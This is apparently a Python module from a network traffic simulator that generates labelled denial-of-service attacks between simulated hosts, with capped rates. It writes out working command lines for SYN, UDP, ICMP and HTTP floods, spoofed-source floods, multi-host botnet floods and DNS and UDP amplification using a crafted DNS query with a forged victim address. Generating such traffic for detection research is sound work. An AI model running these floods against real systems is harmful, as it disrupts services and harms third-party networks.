"""Too much of everything, at rates that hurt nobody: some hundred packets a second for some seconds."""
from .. import words
from .job import attack, together


def _rate(job, low=100, high=1500):
    """Packets a second and how many."""
    rate = job.rng.choice((low, (low + high) // 3, high))
    seconds = min(job.left * 0.7, job.rng.uniform(4, 12))
    return rate, max(50, min(int(rate * seconds), 4000))


def _hping(job, host, *words, rate, count):
    job.run(host, ["hping3", "-q", "-n", "-i", f"u{1_000_000 // rate}", "-c", count, *words], count / rate + 4)


def _open_port(job, victim, *among):
    ports = [victim.services[s] for s in among or victim.services if s in victim.services]
    return job.rng.choice(ports) if ports else job.rng.choice((80, 443, 22))


def _tcp(job, attacker, victim, flags, port, rate, count):
    size = job.rng.choice(([], [], ["-d", str(job.rng.choice((40, 120, 600)))]))
    window = job.rng.choice((["-w", "64240"], ["-w", "1024"], []))
    _hping(job, attacker, *flags, "-p", port, *size, *window, victim.v4, rate=rate, count=count)


# -- from one -----------------------------------------------------------------------

def _from_one(job, flags, low=100, high=1500, any_port=False):
    victim = job.victim()
    attacker = job.attacker(victim)
    port = f"++{job.rng.randrange(1, 3000)}" if any_port else _open_port(job, victim)
    rate, count = _rate(job, low, high)
    with job.claim(attacker, victim):
        _tcp(job, attacker, victim, flags, port, rate, count)


@attack("dos", "hping3")
def syn_flood(job):
    _from_one(job, ["-S"])


@attack("dos", "hping3")
def tcp_flag_flood(job):
    """ACK, PSH+ACK, RST, FIN, or all of them at once."""
    _from_one(job, job.rng.choice((["-A"], ["-P", "-A"], ["-R"], ["-F", "-A"],
                                   ["-F", "-S", "-R", "-P", "-A", "-U"])))


@attack("dos", "hping3")
def udp_flood(job):
    victim = job.victim()
    attacker = job.attacker(victim)
    rate, count = _rate(job)
    port = job.rng.choice((_open_port(job, victim), f"++{job.rng.randrange(1, 30000)}", 53, 123))
    source = job.rng.choice(([], ["-k", "-s", str(job.rng.randrange(1024, 65000))]))
    with job.claim(attacker, victim):
        _hping(job, attacker, "-2", "-p", port, *source, "-d", job.rng.choice((0, 18, 200, 512, 1200)), victim.v4,
               rate=rate, count=count)


@attack("dos", "hping3", "ping")
def icmp_flood(job):
    victim = job.victim()
    attacker = job.attacker(victim)
    rate, count = _rate(job)
    family = job.family()
    with job.claim(attacker, victim, family=family):
        if family == 6 or job.rng.random() < 0.4:
            job.run(attacker, ["ping", "-q", "-f", "-i", f"{1 / rate:.4f}", "-c", count, "-s",
                               job.rng.choice((56, 500, 1200)),
                               victim.address(family)], count / rate + 4)
        else:
            _hping(job, attacker, "-1", "-d", job.rng.choice((0, 56, 800, 1400)), victim.v4, rate=rate, count=count)


def _hammer(job, attacker, victim, service):
    port, rng = victim.services[service], job.rng
    small = [path for path, length in job.services.pages if length < 8000]
    path = rng.choice(("/", "/app/search?q=" + "a" * 20, "/app/api/x", *small[:2]))
    url = f"{'https' if service == 'tls' else 'http'}://{victim.v4}:{port}{path}"
    seconds = min(job.left * 0.7, rng.uniform(4, 10))
    which = rng.choice(("ab", "wrk", "siege")) if service == "web" else rng.choice(("ab", "wrk"))
    if which == "ab":
        job.run(attacker, ["ab", "-q", "-r", *rng.choice(([], ["-k"])), "-c", rng.choice((5, 20, 60)), "-n",
                           rng.randint(300, 1500), "-s", "5",
                           url], seconds + 2)
    elif which == "wrk":
        # wrk has no rate: few connections for a short time keep it small.
        header = rng.choice(([], ["-H", "Connection: close"], ["-H", "Connection: close"]))
        job.run(attacker, ["wrk", "-t", "1", "-c", rng.choice((2, 8, 30)), "-d",
                           f"{min(seconds, 1.5 if not header else 3):.0f}s", "--timeout", "3",
                           *header, url], seconds + 2)
    else:
        job.run(attacker, ["siege", "-q", "-b", "-c", rng.choice((5, 15, 25)), "-r", rng.randint(10, 40), url],
                seconds)


@attack("dos", "ab", "wrk", "siege", wants="web")
def http_flood(job):
    victim = job.victim()
    attacker = job.attacker(victim)
    service = job.rng.choice(("web", "web", "tls"))
    with job.claim(attacker, victim, port=victim.services[service]):
        _hammer(job, attacker, victim, service)


@attack("dos", "dig", wants="dns")
def dns_query_flood(job):
    """Names that do not exist, faster than anybody reads."""
    victim = job.victim()
    attacker = job.attacker(victim)
    names = "".join(f"{words.host_label(job.rng, 10)}.{job.plan.domain} {job.rng.choice(('A', 'AAAA', 'MX'))}\n"
                    for _ in range(job.rng.randint(200, 700)))
    dig = f"dig @{victim.v4} +tries=1 +time=1 +short -f {job.file(names)}"
    with job.claim(attacker, victim, port=53, protocol="udp"):
        job.run(attacker, ["sh", "-c", f"{' & '.join([dig] * job.rng.randint(2, 6))} & wait"],
                job.rng.uniform(5, 12))


# -- from many ----------------------------------------------------------------------

@attack("ddos", "python3")
def syn_flood_spoofed(job):
    _spoofed(job, "syn")


@attack("ddos", "python3")
def ack_flood_spoofed(job):
    _spoofed(job, "ack")


@attack("ddos", "python3")
def udp_flood_spoofed(job):
    _spoofed(job, "udp")


def _spoofed(job, kind):
    victim = job.victim()
    attacker = job.attacker(victim)
    rate, count = _rate(job)
    net = job.spoof_net()
    job.claim_spoofed(net, victim)
    port = 0 if kind == "udp" and job.rng.random() < 0.5 else _open_port(job, victim)
    job.tiny(attacker, "spoofed", kind, net, victim.v4, port, min(count, 4000), rate, limit=count / rate + 3)


def from_many(job, victim, port, protocol, do):
    """Several hosts do the same to one victim at one time."""
    together(job, job.attackers(job.rng.randint(3, 5), victim),
             lambda attacker: job.claim(attacker, victim, port=port, protocol=protocol), do)


@attack("ddos", "hping3")
def flood_from_many(job):
    """A small botnet sends SYN, UDP, ICMP or ACK packets."""
    victim = job.victim()
    rate, count = _rate(job, 60, 400)
    count = min(count, 2500)
    how = job.rng.choice((["-S", "-p", _open_port(job, victim)], ["-2", "-d", "400", "-p", "++2000"],
                          ["-2", "-k", "-s", "5555", "-d", "900", "-p", 53],
                          ["-1", "-d", "200"], ["-A", "-p", _open_port(job, victim)]))
    from_many(job, victim, None, "", lambda attacker: _hping(job, attacker, *how, victim.v4, rate=rate,
                                                             count=count))


@attack("ddos", "ab", "wrk", "siege", wants="web")
def http_flood_from_many(job):
    victim = job.victim()
    service = job.rng.choice(("web", "web", "tls"))
    from_many(job, victim, victim.services[service], "tcp",
              lambda attacker: _hammer(job, attacker, victim, service))


@attack("ddos", "hping3", wants="dns")
def dns_amplification(job):
    """Questions in the victim's name, long answers to the victim."""
    question = (job.rng.getrandbits(16).to_bytes(2, "big") + bytes.fromhex("0100 0001 0000 0000 0001")
                + b"".join(bytes([len(p)]) + p.encode()
                           for p in job.services.amplified.split(".")) + bytes.fromhex("00 0010 0001")
                + bytes.fromhex("00 0029 1000 00000000 0000"))
    _reflected(job, [h for h in job.plan.offering("dns")], 53, question)


@attack("ddos", "hping3", wants="reflector")
def udp_amplification(job):
    """The same with devices that answer too much."""
    reflectors = job.plan.offering("reflector")
    port = reflectors[0].services["reflector"]
    _reflected(job, [h for h in reflectors if h.services["reflector"] == port], port,
               job.rng.randbytes(job.rng.choice((8, 15, 40))))


def _reflected(job, reflectors, port, question):
    victim = job.rng.choice([h for h in job.plan.by_role("client", "server") if h not in reflectors])
    sender = job.attacker(victim, *reflectors)
    path = job.file(question)
    rate = job.rng.choice((30, 80, 200))
    with job.claim(victim, reflectors, port=port, protocol="udp"):
        for _ in range(job.rng.randint(2, 5)):
            for reflector in reflectors:
                count = int(min(rate * 2, 300))
                source = job.rng.choice((["-k", "-s", str(job.rng.randrange(1024, 65000))], []))
                if job.left > 1:
                    _hping(job, sender, "-2", "-a", victim.v4, "-p", port, *source, "-E", path, "-d",
                           len(question), reflector.v4, rate=rate, count=count)
